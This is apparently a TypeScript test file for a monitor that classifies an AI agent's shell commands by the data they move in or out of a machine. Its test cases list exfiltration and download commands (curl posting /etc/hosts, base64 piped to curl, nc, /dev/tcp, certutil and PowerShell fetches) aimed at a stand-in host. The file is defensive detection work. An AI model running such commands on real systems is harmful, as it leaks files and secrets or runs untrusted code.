import type { AgentEvent } from '../../contracts/event';
import { createAnalyser } from '../analyse';

const analyse = createAnalyser();
const moves = (command: string, shell?: 'powershell' | 'cmd'): string[] =>
  analyse({ action: { type: 'exec', tool: 'Bash', command, ...(shell && { shell }) } } as AgentEvent, {
    cwd: '/home/dev/project',
    filesWritten: new Map(),
  }).transfers.map(
    ({ direction, destination, path, text, program }) =>
      `${program} ${direction} ${destination?.host ?? '?'}${path === undefined ? '' : ` ${path.path}`}${text === undefined ? '' : ` "${text}"`}`,
  );

describe('what programs move between machines', () => {
  it.each([
    ['curl -fsSL https://a.example/x.sh', ['curl in a.example']],
    ['curl -o /tmp/x https://a.example/x', ['curl in a.example /tmp/x']],
    ['cd /tmp && curl -sO https://a.example/d/x.sh', ['curl in a.example /tmp/x.sh']],
    ['curl https://a.example/x > /tmp/y', ['curl in a.example /tmp/y']],
    ['curl https://a.example/x | sudo tee /tmp/y', ['curl in a.example /tmp/y']],
    ['curl -d @/etc/hosts https://a.example', ['curl out a.example /etc/hosts']],
    ['curl --data-binary @- https://a.example < /etc/hosts', ['curl out a.example /etc/hosts']],
    ['cat /etc/hosts | base64 | curl -d @- https://a.example', ['curl out a.example /etc/hosts']],
    ['curl -d "a=1" https://a.example', ['curl out a.example "a=1"']],
    ['curl -F "f=@/tmp/a.zip;type=x" https://a.example', ['curl out a.example /tmp/a.zip']],
    ['curl -T /tmp/a.zip https://a.example', ['curl out a.example /tmp/a.zip']],
    ['curl -I https://a.example', []],
    ['wget -q http://a.example/x -P /tmp', ['wget in a.example /tmp/x']],
    ['cd /tmp; busybox wget http://a.example/x', ['wget in a.example /tmp/x']],
    ['wget -qO- http://a.example/x > /tmp/y', ['wget in a.example /tmp/y']],
    [
      'wget --post-file=/etc/hosts http://a.example',
      ['wget out a.example /etc/hosts', 'wget in a.example ~/project/index.html'],
    ],
    ['aria2c -d /tmp -o y https://a.example/x', ['aria2c in a.example /tmp/y']],
    ['http POST a.example a=b f@/tmp/x', ['http out a.example "b"', 'http out a.example /tmp/x', 'http in a.example']],
    ['scp /tmp/x me@a.example:/srv', ['scp out a.example /tmp/x']],
    ['scp a.example:/srv/x .', ['scp in a.example ~/project/x']],
    ['rsync -av /srv/ me@a.example:b/', ['rsync out a.example /srv']],
    ['sftp a.example <<< "put /tmp/x"', ['sftp out a.example /tmp/x']],
    [
      'lftp -c "open ftp://a.example; mirror -R x; put /tmp/y"',
      ['lftp out a.example ~/project/x', 'lftp out a.example /tmp/y'],
    ],
    ['cd /tmp; tftp a.example -c get x.sh', ['tftp in a.example /tmp/x.sh']],
    ['tftp -g -r /tmp/x.sh a.example', ['tftp in a.example /tmp/x.sh']],
    ['ftpget -u a -p b a.example /tmp/x y', ['ftpget in a.example /tmp/x']],
    ['nc a.example 99 < /tmp/x', ['nc out a.example /tmp/x']],
    ['nc a.example 99 > /tmp/x', ['nc in a.example /tmp/x']],
    ['tar c /srv | nc a.example 99', ['nc out a.example /srv']],
    ['socat -u FILE:/tmp/x TCP:a.example:99', ['socat out a.example /tmp/x']],
    ['cat /tmp/x > /dev/tcp/a.example/99', ['cat out a.example /tmp/x']],
    [
      'exec 3<>/dev/tcp/a.example/99; echo hello >&3; cat <&3 > /tmp/y',
      ['echo out a.example "hello\n"', 'cat in a.example /tmp/y'],
    ],
    ['git clone https://a.example/b/c.git', ['git in a.example ~/project/c']],
    ['git push https://a.example/b.git main', ['git out a.example']],
    ['git remote add m git@a.example:b.git && git push m main', ['git out a.example']],
    ['git push origin main', ['git out ?']],
    ['aws s3 cp /tmp/x s3://bucket/x', ['aws out bucket /tmp/x']],
    ['aws s3 cp s3://bucket/x /tmp/', ['aws in bucket /tmp/x']],
    ['pg_dump db | aws s3 cp - s3://bucket/x', ['aws out bucket']],
    ['gsutil cp /tmp/x gs://bucket', ['gsutil out bucket /tmp/x']],
    ['az storage blob upload --account-name acc -f /tmp/x -c b -n n', ['az out acc.blob.core.windows.net /tmp/x']],
    ['azcopy copy /tmp/x "https://acc.example/c?sig=a"', ['azcopy out acc.example /tmp/x']],
    ['rclone copy /tmp/x drive:back', ['rclone out ? /tmp/x']],
    ['gh gist create --public /tmp/x', ['gh out gist.github.com /tmp/x']],
    ['gh release upload v1 /tmp/x', ['gh out github.com /tmp/x']],
    ['tar cz /srv | ssh a.example "cat > x.tgz"', ['ssh out a.example /srv']],
    ['ssh a.example cat /etc/x > /tmp/y', ['ssh in a.example /tmp/y']],
    ['mail -a /tmp/x me@a.example < /dev/null', ['mail out a.example /tmp/x', 'mail out a.example /dev/null']],
    [
      `python3 -c "import urllib.request as u; u.urlretrieve('https://a.example/x', '/tmp/y')"`,
      ['python in a.example /tmp/y'],
    ],
    [
      `python3 -c "import requests; requests.post('https://a.example', data=open('/etc/hosts').read())"`,
      ['python in a.example', 'python out a.example'],
    ],
    [
      `node -e "fetch('https://a.example', {method: 'POST', body: 'secret text'})"`,
      ['javascript in a.example', 'javascript out a.example "secret text"'],
    ],
    ['certutil.exe -urlcache -split -f http://a.example/x.exe y.exe', ['certutil in a.example ~/project/y.exe']],
  ])('%s', (command, told) => {
    expect(moves(command)).toEqual(told);
  });

  it.each([
    ['iwr -Uri https://a.example/x.ps1 -OutFile C:/t/x.ps1', ['iwr in a.example C:/t/x.ps1']],
    ['Start-BitsTransfer -Source https://a.example/x -Destination y', ['start-bitstransfer in a.example ~/project/y']],
    ['Invoke-RestMethod -Method Post -Uri https://a.example -Body hello', ['invoke-restmethod out a.example "hello"']],
    [
      `(New-Object Net.WebClient).DownloadFile('http://a.example/x', 'y.exe')`,
      ['powershell in a.example ~/project/y.exe'],
    ],
  ])('PowerShell: %s', (command, told) => {
    expect(moves(command, 'powershell').filter((one, at, all) => all.indexOf(one) === at)).toEqual(told);
  });

  it.each([
    'echo curl https://a.example',
    'git commit -m "push https://a.example"',
    'cp a b',
    'nc -z a.example 80',
    'ssh a.example uptime',
  ])('%s moves nothing', (command) => {
    expect(moves(command)).toEqual([]);
  });
});
